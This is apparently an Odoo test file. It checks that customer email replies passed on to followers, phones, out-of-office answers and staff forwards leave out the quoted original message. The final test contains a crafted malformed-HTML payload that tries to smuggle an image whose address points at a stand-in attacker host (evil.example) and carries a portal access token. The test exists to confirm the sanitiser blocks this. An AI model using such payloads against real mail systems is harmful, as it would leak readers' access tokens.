"""What Odoo passes on of a customer's reply quotes nothing of what we wrote."""

from lxml import html as markup
from markupsafe import Markup

from odoo.tests import tagged

from . import received_common as received
from .received_mail_common import ReceivedCase

OURS = "What we wrote about the oven"
THEIRS = "Yes please, we take it"
_ORIGINAL = (
    "From: Us <billing@company.test.example.com>\nSent: Monday\nTo: Ada\nSubject: Oven\n\n"
    f"{OURS}\n"
)
# How mail programs quote: name -> (plain text, HTML).
QUOTES = {
    "Gmail": (
        None,
        f'<div>{THEIRS}</div><div class="gmail_quote"><div class="gmail_attr">On Monday:</div>'
        f'<blockquote class="gmail_quote"><p>{OURS}</p></blockquote></div>',
    ),
    "Outlook on the web": (
        None,
        f'<div>{THEIRS}</div><div id="appendonsend"></div><hr>'
        f'<div id="divRplyFwdMsg">From: us</div><div><p>{OURS}</p></div>',
    ),
    "Outlook": (
        None,
        f'<p class="MsoNormal">{THEIRS}</p><div><div style="border-top:solid #E1E1E1 1.0pt">'
        f'<p><b>From:</b> Us &lt;billing@company.test.example.com&gt;<br><b>Sent:</b> Monday<br>'
        f"<b>To:</b> Ada<br><b>Subject:</b> Oven</p></div></div><p>{OURS}</p><p>{OURS}</p>",
    ),
    "Outlook in German": (
        None,
        f"<p>{THEIRS}</p><p>Von: Firma<br>Gesendet: Montag<br>An: Ada<br>Betreff: Ofen</p>"
        f"<p>{OURS}</p>",
    ),
    "Thunderbird": (
        None,
        f'<p>{THEIRS}</p><div class="moz-cite-prefix">On Monday we wrote:</div>'
        f'<blockquote type="cite"><p>{OURS}</p></blockquote>',
    ),
    "Apple Mail": (
        None,
        f'<div>{THEIRS}</div><div><br><blockquote type="cite"><div>{OURS}</div></blockquote></div>',
    ),
    "Yahoo": (None, f'<div>{THEIRS}</div><div class="yahoo_quoted"><div>{OURS}</div></div>'),
    "angle brackets": (f"{THEIRS}\n\nOn Monday:\n> {OURS}\n>\n> {OURS}\n", None),
    "angle brackets in HTML": (None, f"<p>{THEIRS}<br>&gt; {OURS}<br>&gt; <b>{OURS}</b></p>"),
    "a line": (f"{THEIRS}\n\n-----Original Message-----\n{_ORIGINAL}", None),
    "headers": (f"{THEIRS}\n\n________________________________\n{_ORIGINAL}", None),
    "answer below": (f"On Monday:\n> {OURS}\n\n{THEIRS}\n", None),
}  # fmt: skip


@tagged("post_install", "-at_install")
class TestWhatIsPassedOn(ReceivedCase):
    """Rule: what Odoo passes on of a reply never holds the original that it quotes."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.clerk = cls.make_user("clerk", "account.group_account_invoice").partner_id
        cls.followers = cls.stranger + cls.clerk
        cls.quote = cls.make_quote()
        for document in (cls.invoice, cls.quote):
            document.message_subscribe(partner_ids=cls.followers.ids)

    def assertCut(self, texts):
        self.assertTrue(texts)
        for text in texts:
            self.assertIn(THEIRS, text)
            self.assertNotIn("about the oven", text)

    def passed_on(self):
        """Return both forms of each email that left."""
        forms = ("body", "body_alternative")
        return [str(mail[form]) for mail in self._mails for form in forms]

    def test_followers_get_no_original(self):
        self.enable()
        self.ada.message_subscribe(partner_ids=self.followers.ids)
        for record in (self.invoice, self.quote, self.ada):
            for name, (text, html) in QUOTES.items():
                with self.subTest(record=record._name, program=name):
                    message = self.receive(
                        self.make_reply(text or THEIRS, html, sender=self.ben.email), record
                    )
                    self.assertIn("about the oven", message.body, "Odoo itself keeps it")
                    self.assertLessEqual(set(self.followers.mapped("email")), set(self.sent))
                    self.assertCut(self.passed_on())

    def test_phones_get_no_original(self):
        for name, (text, html) in QUOTES.items():
            with self.subTest(program=name):
                message = self.receive(self.make_reply(text or THEIRS, html))
                payload = self.invoice._notify_by_web_push_prepare_payload(message)
                self.assertCut([payload["options"]["body"]])
                payload = self.invoice._notify_by_web_push_prepare_payload(
                    message, msg_vals={"body": message.body}
                )
                self.assertCut([payload["options"]["body"]])

    def test_the_answer_that_somebody_is_away_holds_no_original(self):
        user = self.clerk.user_ids
        user.write({"out_of_office_from": "2020-01-01", "out_of_office_message": "<p>Away</p>"})
        told = [{"active": True, "id": self.clerk.id, "uid": user.id, "share": False}]
        for number, (name, (text, html)) in enumerate(QUOTES.items()):
            with self.subTest(program=name):
                # Somebody else each time: Odoo tells nobody twice within days.
                sender = f"somebody{number}@example.com"
                message = self.receive(self.make_reply(text or THEIRS, html, sender=sender))
                values = {"partner_ids": self.clerk.ids, "body": message.body}
                with self.mock_mail_gateway():
                    invoice = self.invoice.with_user(self.env.ref("base.user_root"))
                    answer = invoice._notify_thread_with_out_of_office(message, told, values)
                self.assertCut([answer.body])

    def test_forwarded_and_answered_by_staff_without_the_original(self):
        introduction = (
            "<div><span>---------- Forwarded message ----------</span><br/><span>Date: now</span>"
            "<br/><span>From: Ada a@b.example</span><br/><span>Subject: Oven</span></div>"
        )
        reply = '<div class="o_mail_reply_container"><div class="o_mail_reply_content">'
        for name, (text, html) in QUOTES.items():
            message = self.receive(self.make_reply(text or THEIRS, html))
            for option, body in (
                ("forward", f"<div><br/></div>{introduction}{message.body}"),
                ("reply_all", f"{reply}<blockquote>{message.body}</blockquote></div></div>"),
            ):
                with self.subTest(program=name, option=option):
                    dialog = self.env["mail.compose.message"].with_context(
                        default_model="account.move", default_res_ids=self.invoice.ids,
                        default_composition_mode="comment", default_body=body,
                        default_composition_comment_option=option,
                    )  # fmt: skip
                    self.assertCut([str(dialog.create({}).body)])

    def test_attached_emails_are_not_passed_on(self):
        reply = self.make_reply(THEIRS, sender=self.ben.email)
        reply.add_attachment(b"plan", "application", "octet-stream", filename="plan.txt")
        for content, name in (
            (received.make_email(OURS), "a.eml"),
            (received.make_outlook_file([b"x", OURS.encode()]), "a.bin"),
        ):
            reply.add_attachment(content, "application", "octet-stream", filename=name)
        message = self.receive(reply, save_original=True)
        self.assertEqual(len(message.attachment_ids), 4, "Odoo itself keeps them")
        self.assertLessEqual(set(self.followers.mapped("email")), set(self.sent))
        for mail in self._mails:
            self.assertEqual([name for name, *_rest in mail["attachments"]], ["plan.txt"])
            self.assertIn("An attached email", str(mail["body"]))
        dialog = self.env["mail.compose.message"].with_context(
            default_model="account.move", default_res_ids=self.invoice.ids,
            default_composition_mode="comment", default_composition_comment_option="forward",
            default_attachment_ids=message.attachment_ids.ids, default_body="x",
        )  # fmt: skip
        self.assertEqual(dialog.create({}).attachment_ids.mapped("name"), ["plan.txt"])

    def test_what_the_customer_writes_is_passed_on_whole(self):
        text = f"{THEIRS}\n\nName: Ada\nPhone: 1234\nRoom: 2 > 1\n\nBye\n"
        self.receive(self.make_reply(text, sender=self.ben.email))
        for passed_on in self.passed_on():
            for word in (THEIRS, "Phone: 1234", "Bye"):
                self.assertIn(word, passed_on)
        message = self.invoice.message_post(
            body=Markup("<p>%s</p><blockquote>%s</blockquote>") % (THEIRS, OURS)
        )
        self.assertIn(OURS, message.body, "staff quote whom they like")

    def test_other_records_pass_on_what_they_always_did(self):
        self.eve.message_subscribe(partner_ids=self.followers.ids)
        _text, html = QUOTES["Gmail"]
        self.receive(self.make_reply(THEIRS, html, sender=self.ben.email), self.eve)
        self.assertTrue(all(OURS in text for text in self.passed_on()))

    def test_l2_no_reply_puts_a_link_into_an_attribute(self):
        """A picture's address that holds the token of whoever reads would send it on."""
        self.invoice.message_subscribe(partner_ids=self.ada.ids)
        address = f"{self.invoice.get_base_url()}/my/invoices/{self.invoice.id}"
        # The masking of what is mailed on finds a token where Odoo has taken a tag out.
        html = (
            f'<p>{THEIRS} <img title="{"z" * 420} /finance/i/AAAAAAAAAA&lt;b"/>'
            f'<foo x="{"y" * 500}">{"B" * 33} q " src=//evil.example/?\'{address} x="</foo></p>'
        )
        self.receive(self.make_reply(THEIRS, html, sender=self.stranger.email))
        self.assertIn(self.ada.email, self.sent)
        for mail in self._mails:
            tree = markup.fromstring(str(mail["body"]))
            for node in tree.iter("img"):
                self.assertNotIn("evil.example", str(node.attrib), "a picture of theirs")
            for node in tree.iter():
                for name, value in node.attrib.items():
                    if name != "href":
                        self.assertFalse(self.tokens_in(value), (name, value))
